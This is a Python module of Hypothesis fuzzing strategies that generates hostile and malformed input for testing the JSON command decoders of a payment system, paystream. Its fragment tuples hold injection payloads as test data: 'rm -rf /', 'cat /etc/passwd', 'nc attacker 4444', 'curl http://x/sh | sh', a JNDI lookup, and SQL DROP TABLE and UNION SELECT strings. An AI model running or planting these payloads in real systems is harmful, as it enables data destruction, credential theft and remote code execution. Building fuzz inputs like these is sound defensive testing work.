"""Hypothesis strategies for hostile input, shared by the fuzz tests and the atheris harness.

Everything here is pure: strings, JSON values and byte strings an attacker (or a broken
upstream system) could put in front of paystream's decoders.
"""

from __future__ import annotations

import json
from typing import Any, Final

from hypothesis import strategies as st

from producers.commands import COMMAND_TYPES

# Fragments that have broken other systems' parsers, shells, SQL and templates.
SQL_FRAGMENTS: Final = (
    "'; DROP TABLE ledger_postings; --",
    '" OR 1=1 --',
    "1; SELECT * FROM system.users",
    "' UNION SELECT password FROM users --",
    "acct') OR ('1'='1",
    "INSERT INTO FUNCTION file('/tmp/x') SELECT 1",
    "/**/SELECT/**/1",
)
SHELL_FRAGMENTS: Final = (
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd",
    "| nc attacker 4444",
    "&& curl http://x/sh | sh",
    "../../../../etc/shadow",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "<script>alert(1)</script>",
)
UNICODE_FRAGMENTS: Final = (
    "\u202eevil",  # right-to-left override
    "\ufeffbom",
    "a\u200bb",  # zero-width space
    "\u0430cct-1",  # Cyrillic a
    "😀💸",
    "\uff11\uff12",  # fullwidth digits
    "e\u0301",  # combining accent
    "\U0010ffff",
    "\x00",
    "a\nb",
    "a\rb",
    "\t",
    "\x1b[31mred",
    "\x7f",
    "\ud800",  # a lone surrogate (only reachable through a JSON "\ud800" escape)
    "\udfff",
)
AMOUNT_FRAGMENTS: Final = (
    "1e309",
    "1E3",
    "1e-2",
    "-1",
    "-0.00",
    "0",
    "0.00",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "inf",
    "0x10",
    "1_000",
    " 1",
    "1 ",
    "1.",
    ".5",
    "1,00",
    "+1",
    "9" * 41,
    "9" * 18,
    "99999999999999999.99",
    "0.001",
    "1.0000000000000000000001",
    "\uff11\uff12",
    "١٢",  # Arabic-Indic digits
)
FRAGMENTS: Final = SQL_FRAGMENTS + SHELL_FRAGMENTS + UNICODE_FRAGMENTS + AMOUNT_FRAGMENTS

# Any code point, lone surrogates included (hypothesis leaves them out by default).
any_char = st.one_of(
    st.characters(),
    st.characters(min_codepoint=0, max_codepoint=0x1F),
    st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
)


@st.composite
def hostile_strings(draw: st.DrawFn, max_size: int = 40) -> str:
    """Short strings mixing known-bad fragments with random (and invalid) characters."""
    parts = draw(
        st.lists(
            st.one_of(
                st.sampled_from(FRAGMENTS),
                st.text(any_char, max_size=8),
                st.text("acct-0123456789.", min_size=1, max_size=8),
            ),
            max_size=3,
        )
    )
    text = "".join(parts)
    return text[:max_size] if draw(st.booleans()) else text


def long_strings(lengths: tuple[int, ...] = (129, 513, 4096, 70_000)) -> st.SearchStrategy[str]:
    """Strings just over the limits, and far over them (cheap: one repeated character)."""
    return st.builds(lambda n, c: c * n, st.sampled_from(lengths), st.sampled_from("xé😀"))


json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=10**18, max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    hostile_strings(),
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(hostile_strings(), inner, max_size=3)
    ),
    max_leaves=6,
)


def valid_value(name: str) -> st.SearchStrategy[str]:
    if name == "amount":
        return st.sampled_from(("1", "0.01", "100.00", "5.25"))
    if name == "currency":
        return st.sampled_from(("USD", "JPY", "KWD"))
    if name == "kind":
        return st.sampled_from(("family", "business"))
    return st.text("abcdefghij-0123456789", min_size=1, max_size=12)


@st.composite
def command_objects(draw: st.DrawFn) -> dict[str, Any]:
    """A JSON command object that is valid, nearly valid, or hostile in one or more fields."""
    ctype = draw(st.sampled_from([*COMMAND_TYPES, "DEPOSIT", "drop_table", ""]))
    spec = COMMAND_TYPES.get(ctype)
    names = list(spec.fields) if spec is not None else ["command_id", "account", "amount"]
    obj: dict[str, Any] = {"type": ctype}
    for name in names:
        if draw(st.integers(0, 19)) == 0:
            continue  # a missing field
        how = draw(st.integers(0, 9))
        if how < 5:
            obj[name] = draw(valid_value(name))
        elif how < 8:
            obj[name] = draw(hostile_strings())
        elif how < 9:
            obj[name] = draw(json_values)
        else:
            obj[name] = draw(long_strings())
    if draw(st.integers(0, 9)) == 0:
        obj[draw(hostile_strings())] = draw(json_values)  # an unknown field
    if draw(st.integers(0, 19)) == 0:
        obj["type"] = draw(json_values)
    return obj


@st.composite
def json_lines(draw: st.DrawFn) -> bytes:
    """One line of input to ``paystream send``: a JSON command, or something else entirely."""
    kind = draw(st.integers(0, 9))
    if kind < 6:
        obj: Any = draw(command_objects())
    elif kind < 7:
        obj = draw(json_values)
    else:
        obj = None
    if obj is not None:
        text = json.dumps(obj, ensure_ascii=draw(st.booleans()), allow_nan=True)
        if draw(st.integers(0, 9)) == 0:  # truncated
            text = text[: draw(st.integers(0, max(0, len(text) - 1)))]
        raw = text.encode("utf-8", "surrogatepass")
    elif kind < 9:
        raw = draw(st.text(any_char, max_size=60)).encode("utf-8", "surrogatepass")
    else:
        raw = draw(st.binary(max_size=60))
    # One line: paystream send splits on newlines first.
    return raw.replace(b"\n", b" ")
